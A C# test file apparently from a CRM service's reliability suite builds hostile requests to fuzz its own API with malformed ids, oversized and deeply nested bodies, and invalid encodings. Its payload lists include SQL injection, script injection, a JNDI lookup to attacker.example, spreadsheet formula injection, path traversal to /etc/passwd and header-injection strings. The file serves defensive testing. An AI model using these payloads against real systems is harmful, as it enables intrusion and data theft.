using System.Text;
using System.Text.Json.Nodes;

namespace CrmCloud.Reliability.Tests;

/// <summary>The kinds of hostile input the sweep sends, each a row of its table.</summary>
public enum InputClass
{
    WrongType,
    MissingRequired,
    HugeString,
    DeepNesting,
    InvalidUtf8,
    ControlCharacters,
    SqlPayload,
    ScriptPayload,
    NegativeNumber,
    OverflowNumber,
    MalformedId,
    MalformedCursor,
    WrongContentType,
    EmptyBody,
    JsonNull,
}

/// <summary>A request as sent, kept whole so that a failure can be read and replayed.</summary>
public sealed record HostileRequest(InputClass Class, string Method, string Url, byte[]? Body, string? ContentType)
{
    /// <summary>Above this, the body waits for the server's go-ahead: a server refusing it (413) answers before it is sent.</summary>
    private const int LargeBody = 64 * 1024;

    public HttpRequestMessage ToMessage()
    {
        var message = new HttpRequestMessage(new HttpMethod(Method), Url);
        if (Body is not null)
        {
            message.Headers.ExpectContinue = Body.Length > LargeBody;
            message.Content = new ByteArrayContent(Body);
            if (ContentType is not null)
            {
                message.Content.Headers.TryAddWithoutValidation("Content-Type", ContentType);
            }
        }

        return message;
    }

    public override string ToString()
    {
        var body = Body is null ? "(no body)" : Body.Length > 400 ? $"{Encoding.UTF8.GetString(Body, 0, 400)}... ({Body.Length} bytes)" : Encoding.UTF8.GetString(Body);
        var url = Url.Length > 400 ? $"{Url[..400]}... ({Url.Length} characters)" : Url;
        return $"{Class}: {Method} {url} [{ContentType ?? "no content type"}] {body}";
    }
}

/// <summary>
/// Builds hostile requests for an operation from the document: a plausible body (or query) with one part made hostile,
/// or a malformed id in the path. Operations that change state without a body (delete, erase, revoke) only ever get
/// malformed ids, so that the sweep refuses them rather than carrying them out on the tenant's records.
/// </summary>
public sealed class HostileRequests(ApiDocument document, TenantRecords records)
{
    private const int Megabyte = 1024 * 1024;

    /// <summary>Stands for the invalid UTF-8 bytes in a serialized body until they are put in its place.</summary>
    private const string InvalidUtf8Marker = "INVALID-UTF8-GOES-HERE";

    /// <summary>Stands for the deeply nested value, written as text: a serializer refuses to write what it would refuse to read.</summary>
    private const string NestingMarker = "DEEP-NESTING-GOES-HERE";

    private static readonly string[] MalformedIds =
    [
        "not-a-uuid", "00000000-0000-0000-0000-000000000000", "1%27%20OR%20%271%27%3D%271", "-1", "99999999999999999999999999",
        "%FF%FE", "..%2F..%2Fetc%2Fpasswd", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "0190a000-0000-7000-8000-00000000000g",
        "%7B%7B7*7%7D%7D", new string('a', 4000), "%E2%80%AE", "%01%02%1B",
    ];

    private static readonly string[] MalformedCursors =
    [
        "%%%", "AAAA", "eyJ4IjoxfQ", "bnVsbA", "////", "-1", "0", new string('Q', 6000), "eyJpZCI6IjEnIE9SICcxJz0nMSJ9", "W10", "%00",
    ];

    private static readonly string[] SqlPayloads =
    [
        "'; DROP TABLE people; --", "1' OR '1'='1", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)--", "' UNION SELECT * FROM pg_user --", "%' AND 1=1 --",
    ];

    private static readonly string[] ScriptPayloads =
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://attacker.example/a}", "javascript:alert(1)", "=cmd|' /C calc'!A0",
    ];

    private static readonly string[] ControlStrings =
    [
        "\u0000", "a\u0000b", "\u0007\u0008\u001b[31m", "\r\n\r\nX-Injected: 1", "\u202eevil", "\ufeff\u200b", "\ud800", "\uffff",
    ];

    private static readonly string[] WrongTypedValues = ["abc", "[]", "{}", "true", "1.5", "2026-13-45"];

    private static readonly string[] NegativeNumbers = ["-1", "-0.01", "-2147483648", "-9223372036854775808", "-1e308"];

    private static readonly string[] OverflowNumbers =
    [
        "2147483648", "9223372036854775808", "79228162514264337593543950336", "1e400", "99999999999999999999999999999999999999", "0.0000000000000000000000000000001",
    ];

    private static readonly string[] WrongContentTypes = ["text/plain", "application/xml", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "image/png"];

    /// <summary>The classes that apply to the operation (a class that cannot reach it is not counted for it).</summary>
    public static IEnumerable<InputClass> ClassesFor(Operation operation)
    {
        var changesWithoutBody = !operation.IsRead && !operation.HasJsonBody;
        foreach (var inputClass in Enum.GetValues<InputClass>())
        {
            var applies = inputClass switch
            {
                InputClass.MalformedId => operation.PathParameters.Any(),
                InputClass.MalformedCursor => !changesWithoutBody && operation.Parameters.Any(parameter => parameter.IsCursor),
                InputClass.WrongContentType or InputClass.EmptyBody or InputClass.JsonNull or InputClass.MissingRequired or InputClass.DeepNesting or InputClass.InvalidUtf8 =>
                    operation.HasJsonBody,
                _ => operation.HasJsonBody || (operation.IsRead && operation.QueryParameters.Any()),
            };
            if (applies)
            {
                yield return inputClass;
            }
        }
    }

    public HostileRequest Build(Operation operation, InputClass inputClass, Random random)
    {
        var changesWithoutBody = !operation.IsRead && !operation.HasJsonBody;
        var path = inputClass == InputClass.MalformedId || changesWithoutBody
            ? operation.Fill(_ => Pick(random, MalformedIds))
            : operation.Fill(parameter => RealId(operation, parameter));

        if (inputClass == InputClass.MalformedCursor)
        {
            return new(inputClass, operation.Method, $"{path}?{Query(operation, random, cursor: Pick(random, MalformedCursors))}", Body(operation, random), ContentType(operation));
        }

        if (!operation.HasJsonBody || inputClass == InputClass.MalformedId)
        {
            var query = operation.IsRead && inputClass != InputClass.MalformedId ? HostileQuery(operation, inputClass, random) : string.Empty;
            return new(inputClass, operation.Method, query.Length > 0 ? $"{path}?{query}" : path, operation.HasJsonBody ? Body(operation, random) : null, ContentType(operation));
        }

        return inputClass switch
        {
            InputClass.WrongContentType => new(inputClass, operation.Method, path, Body(operation, random), Pick(random, WrongContentTypes)),
            InputClass.EmptyBody => new(inputClass, operation.Method, path, [], ContentType(operation)),
            InputClass.JsonNull => new(inputClass, operation.Method, path, "null"u8.ToArray(), ContentType(operation)),
            InputClass.InvalidUtf8 => new(inputClass, operation.Method, path, WithInvalidUtf8(operation, random), ContentType(operation)),
            InputClass.DeepNesting => new(inputClass, operation.Method, path, WithDeepNesting(operation, random), ContentType(operation)),
            _ => new(inputClass, operation.Method, path, Encoding.UTF8.GetBytes(HostileBody(operation, inputClass, random).ToJsonString()), ContentType(operation)),
        };
    }

    /// <summary>A plausible body for the operation from its schema: strings, the tenant's ids for id fields, small numbers.</summary>
    public JsonNode Sample(JsonObject? schema, string name, Random random, int depth = 0)
    {
        schema = document.Resolve(schema);
        if (schema is null || depth > 4)
        {
            return JsonValue.Create("sample")!;
        }

        if (schema["enum"] is JsonArray values && values.OfType<JsonNode>().ToList() is { Count: > 0 } named)
        {
            return named[random.Next(named.Count)].DeepClone();
        }

        var types = ApiDocument.TypesOf(schema);
        var format = schema["format"]?.GetValue<string>();
        return (types.Count > 0 ? types[0] : null, format) switch
        {
            ("object", _) => new JsonObject((schema["properties"]?.AsObject() ?? [])
                .Select(property => KeyValuePair.Create(property.Key, (JsonNode?)Sample(property.Value as JsonObject, property.Key, random, depth + 1)))),
            ("array", _) => new JsonArray(Sample(schema["items"] as JsonObject, name, random, depth + 1)),
            ("integer" or "number", _) => JsonValue.Create(1),
            ("boolean", _) => JsonValue.Create(true),
            (_, "uuid") => JsonValue.Create(records.IdNamed(name) ?? Guid.CreateVersion7().ToString()),
            (_, "date") => JsonValue.Create("2026-01-01"),
            (_, "date-time") => JsonValue.Create("2026-01-01T00:00:00Z"),
            _ => JsonValue.Create(name.Contains("email", StringComparison.OrdinalIgnoreCase) ? "sweep@example.com" : "Sample"),
        };
    }

    private static string ContentType(Operation operation) =>
        operation.BodyContentTypes.FirstOrDefault(type => type == "application/json") ?? (operation.BodyContentTypes.Count > 0 ? operation.BodyContentTypes[0] : "application/json");

    private static T Pick<T>(Random random, IReadOnlyList<T> values) => values[random.Next(values.Count)];

    private byte[] Body(Operation operation, Random random) =>
        operation.HasJsonBody ? Encoding.UTF8.GetBytes(Sample(operation.BodySchema, "body", random).ToJsonString()) : [];

    private JsonNode HostileBody(Operation operation, InputClass inputClass, Random random)
    {
        var body = Sample(operation.BodySchema, "body", random);
        if (body is not JsonObject fields || fields.Count == 0)
        {
            return HostileValue(inputClass, random);
        }

        if (inputClass == InputClass.MissingRequired)
        {
            // Either nothing at all, or the sample without one of the fields the schema lists as required.
            var required = operation.BodySchema?["required"]?.AsArray().Select(name => name!.GetValue<string>()).ToList() ?? [];
            if (random.Next(2) == 0 || required.Count == 0)
            {
                return new JsonObject();
            }

            fields.Remove(Pick(random, required));
            return fields;
        }

        var (parent, name) = Target(fields, inputClass, random);
        parent[name] = HostileValue(inputClass, random);
        return fields;
    }

    /// <summary>The field to spoil: a number for the number classes where there is one, any field otherwise, one level down at times.</summary>
    private static (JsonObject Parent, string Name) Target(JsonObject fields, InputClass inputClass, Random random)
    {
        var candidates = Flatten(fields).ToList();
        if (inputClass is InputClass.NegativeNumber or InputClass.OverflowNumber)
        {
            var numbers = candidates.Where(candidate => candidate.Value is JsonValue value && (value.TryGetValue<int>(out _) || LooksNumeric(value))).ToList();
            candidates = numbers.Count > 0 ? numbers : candidates;
        }

        var (parent, name, _) = Pick(random, candidates);
        return (parent, name);
    }

    private static IEnumerable<(JsonObject Parent, string Name, JsonNode? Value)> Flatten(JsonObject fields)
    {
        foreach (var (name, value) in fields.ToList())
        {
            yield return (fields, name, value);
            var nested = value as JsonObject ?? (value as JsonArray)?.FirstOrDefault() as JsonObject;
            if (nested is not null)
            {
                foreach (var inner in Flatten(nested))
                {
                    yield return inner;
                }
            }
        }
    }

    private static bool LooksNumeric(JsonValue value) =>
        value.TryGetValue<string>(out var text) && decimal.TryParse(text, System.Globalization.CultureInfo.InvariantCulture, out _);

    private static JsonNode HostileValue(InputClass inputClass, Random random) => inputClass switch
    {
        InputClass.WrongType => Pick(random, new Func<JsonNode>[]
        {
            () => JsonValue.Create(12345),
            () => JsonValue.Create("not the right type"),
            () => new JsonArray(1, "two", null),
            () => new JsonObject { ["unexpected"] = true },
            () => JsonValue.Create(false),
            () => JsonValue.Create(1.5e300),
        })(),
        // Over the 1 MiB a body may hold (the gateway refuses it), or just under it (the service has to cope).
        InputClass.HugeString => JsonValue.Create(new string((char)('a' + random.Next(26)), random.Next(2) == 0 ? Megabyte : Megabyte - 4096))!,
        InputClass.DeepNesting => JsonValue.Create(NestingMarker)!,
        InputClass.ControlCharacters => JsonValue.Create($"Name{Pick(random, ControlStrings)}end")!,
        InputClass.SqlPayload => JsonValue.Create(Pick(random, SqlPayloads))!,
        InputClass.ScriptPayload => JsonValue.Create(Pick(random, ScriptPayloads))!,
        InputClass.NegativeNumber => random.Next(2) == 0 ? JsonNode.Parse(Pick(random, NegativeNumbers))! : JsonValue.Create(Pick(random, NegativeNumbers))!,
        InputClass.OverflowNumber => random.Next(2) == 0 ? JsonNode.Parse(Pick(random, OverflowNumbers))! : JsonValue.Create(Pick(random, OverflowNumbers))!,
        _ => JsonValue.Create("hostile")!,
    };

    /// <summary>Arrays or objects inside each other, deeper than any body of ours goes (the reader stops at 64 by default).</summary>
    private byte[] WithDeepNesting(Operation operation, Random random)
    {
        var depth = random.Next(2) == 0 ? 64 + random.Next(64) : 5000 + random.Next(5000);
        var (open, close) = random.Next(2) == 0 ? ("[", "]") : ("{\"a\":", "}");
        var nesting = $"{string.Concat(Enumerable.Repeat(open, depth))}1{string.Concat(Enumerable.Repeat(close, depth))}";
        var text = HostileBody(operation, InputClass.DeepNesting, random).ToJsonString();
        return Encoding.UTF8.GetBytes(text.Replace($"\"{NestingMarker}\"", nesting, StringComparison.Ordinal));
    }

    private byte[] WithInvalidUtf8(Operation operation, Random random)
    {
        var body = HostileBody(operation, InputClass.ScriptPayload, random);
        var text = body is JsonObject fields && fields.Count > 0
            ? ReplaceOneString(fields, random)
            : $"\"{InvalidUtf8Marker}\"";
        byte[][] invalid = [[0xFF, 0xFE], [0xC0, 0xAF], [0xED, 0xA0, 0x80], [0xE2, 0x82], [0x80], [0xF8, 0x88, 0x80, 0x80, 0x80]];
        var bytes = Encoding.UTF8.GetBytes(text);
        var marker = Encoding.UTF8.GetBytes(InvalidUtf8Marker);
        var at = bytes.AsSpan().IndexOf(marker);
        return [.. bytes[..at], .. Pick(random, invalid), .. bytes[(at + marker.Length)..]];
    }

    private static string ReplaceOneString(JsonObject fields, Random random)
    {
        var (parent, name, _) = Pick(random, Flatten(fields).ToList());
        parent[name] = $"x{InvalidUtf8Marker}y";
        return fields.ToJsonString();
    }

    private static string HostileQuery(Operation operation, InputClass inputClass, Random random)
    {
        var parameters = operation.QueryParameters.Where(parameter => !parameter.IsCursor).ToList();
        if (parameters.Count == 0)
        {
            return string.Empty;
        }

        var target = inputClass is InputClass.NegativeNumber or InputClass.OverflowNumber
            ? parameters.FirstOrDefault(parameter => ApiDocument.TypesOf(parameter.Schema).Contains("integer")) ?? Pick(random, parameters)
            : inputClass == InputClass.WrongType
                ? Pick(random, parameters.Where(parameter => ApiDocument.TypesOf(parameter.Schema) is not ["string"] || parameter.Schema["format"] is not null).DefaultIfEmpty(parameters[0]).ToList())
                : Pick(random, parameters);
        var value = inputClass switch
        {
            InputClass.WrongType => Pick(random, WrongTypedValues),
            InputClass.HugeString => new string('q', 6000),
            InputClass.ControlCharacters => Pick(random, ControlStrings),
            InputClass.SqlPayload => Pick(random, SqlPayloads),
            InputClass.ScriptPayload => Pick(random, ScriptPayloads),
            InputClass.NegativeNumber => Pick(random, NegativeNumbers),
            InputClass.OverflowNumber => Pick(random, OverflowNumbers),
            _ => "hostile",
        };
        return $"{Uri.EscapeDataString(target.Name)}={Uri.EscapeDataString(value)}";
    }

    private static string Query(Operation operation, Random random, string cursor)
    {
        var name = operation.Parameters.First(parameter => parameter.IsCursor).Name;
        return random.Next(3) == 0 ? $"{name}={cursor}&limit=5" : $"{name}={cursor}";
    }

    private string RealId(Operation operation, Parameter parameter) =>
        records.ValueFor(operation, parameter) ?? (parameter.Schema["format"]?.GetValue<string>() == "uuid" ? Guid.CreateVersion7().ToString() : "sample");
}
